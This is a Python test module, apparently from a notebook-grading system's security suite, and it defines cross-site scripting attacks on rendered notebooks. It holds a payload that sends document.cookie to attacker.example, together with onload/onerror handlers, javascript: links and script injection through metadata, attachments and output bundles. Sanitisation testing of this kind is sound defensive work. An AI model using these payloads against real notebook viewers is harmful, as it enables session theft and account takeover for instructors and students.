"""Scripts in what a browser shows to the instructor, and to the student, of a graded notebook."""

from tests.attacks.attack import Attack, own_cell

SCRIPT = "<script>fetch('http://attacker.example/' + document.cookie)</script>"
DRAWING = f'<svg onload="alert(1)">{SCRIPT}</svg>'
IMAGE = "<img src=x onerror=alert(1)>"


def markdown(text: str) -> object:
    """A cell of text, and an essay."""

    def change(notebook: dict) -> None:
        notebook["cells"].append(own_cell(text, "markdown"))
        notebook["cells"][-2]["source"] = text

    return change


def stored(data: dict, **metadata: object) -> object:
    """An output that is handed in."""

    def change(notebook: dict) -> None:
        cell = own_cell("1")
        cell["outputs"] = [{"output_type": "display_data", "data": data, "metadata": metadata}]
        notebook["cells"].append(cell)

    return change


def names(notebook: dict) -> None:
    """Titles, ids, tags and languages with scripts."""
    notebook["metadata"]["title"] = SCRIPT
    notebook["metadata"]["kernelspec"] = {"name": SCRIPT, "display_name": SCRIPT, "language": SCRIPT}
    notebook["metadata"]["language_info"] = {"name": f'x" onload="{IMAGE}', "pygments_lexer": SCRIPT}
    for cell in notebook["cells"][:3]:
        cell["metadata"]["tags"] = [SCRIPT, '"><svg onload=alert(1)>']
        cell["metadata"]["name"] = SCRIPT


def attached(notebook: dict) -> None:
    """A picture that is a script."""
    cell = own_cell('![a](attachment:a.png) ![b](attachment:b"onerror="alert(1).svg)', "markdown")
    cell["attachments"] = {
        "a.png": {"image/png": f'"onerror="alert(1)"{SCRIPT}'},
        'b"onerror="alert(1).svg': {"image/svg+xml": f"<svg>{SCRIPT}</svg>"},
    }
    notebook["cells"].append(cell)


SHOW = "from IPython.display import HTML, Javascript, SVG, Markdown, Latex, display\n"
WIDE = """
import sys
sys.stdout.write("\\x1b[31m<script>alert(1)</script>\\x1b]8;;javascript:alert(1)\\x07link\\x1b]8;;\\x07")
raise ValueError("<script>alert(2)</script>")
"""
CLASS = "raise type('<script>alert(3)</script>', (Exception,), {})('<img src=x onerror=alert(4)>')"
BUNDLE = """
from IPython.display import display
evil = "<script>alert(5)</script>"
for kind in ("application/javascript", "text/html", "image/svg+xml", "text/latex", "application/json", "video/mp4",
             "application/vnd.jupyter.widget-view+json", "application/pdf", "image/png", "text/markdown"):
    display({kind: evil + "\\"onerror=\\"alert(5)", "text/plain": evil}, raw=True)
"""

ATTACKS = [
    Attack("page_html", "shows HTML with a script", first=f"{SHOW}display(HTML({SCRIPT!r}))\nHTML({IMAGE!r})"),
    Attack("page_javascript", "shows JavaScript", first=f"{SHOW}display(Javascript('alert(1)'))"),
    Attack(
        "page_svg",
        "shows a drawing with a script",
        first=f"{SHOW}display(SVG({DRAWING!r}))",
    ),
    Attack(
        "page_latex",
        "shows formulas and text with links",
        first=SHOW + "display(Latex('$\\\\href{javascript:alert(1)}{x}$'))",
    ),
    Attack("page_bundle", "shows every kind of data with a script", first=BUNDLE),
    Attack("page_text", "prints a script, and raises one", first=WIDE),
    Attack("page_class", "raises an error whose class is a script", first=CLASS),
    Attack(
        "page_markdown",
        "writes a script into an essay",
        change=markdown(f"{SCRIPT}\n\n{IMAGE}\n\n[x](javascript:alert(1))"),
    ),
    Attack(
        "page_iframe",
        "writes frames, forms, styles",
        change=markdown("<iframe srcdoc='<script>1</script>'></iframe><style>*{display:none}</style>"),
    ),
    Attack(
        "page_formula",
        "writes formulas that are links and scripts",
        change=markdown("$\\href{javascript:alert(1)}{x} \\unicode{<script>}$ $$<img src=x onerror=alert(1)>$$"),
    ),
    Attack(
        "page_stored", "hands in an output with a script", change=stored({"text/html": SCRIPT, "text/plain": SCRIPT})
    ),
    Attack(
        "page_stored_picture",
        "hands in a picture that is a script",
        change=stored({"image/png": f'x"onerror="alert(1)">{SCRIPT}'}),
    ),
    Attack("page_names", "titles, tags and languages with scripts", change=names),
    Attack("page_attachment", "an attached picture that is a script", change=attached),
]
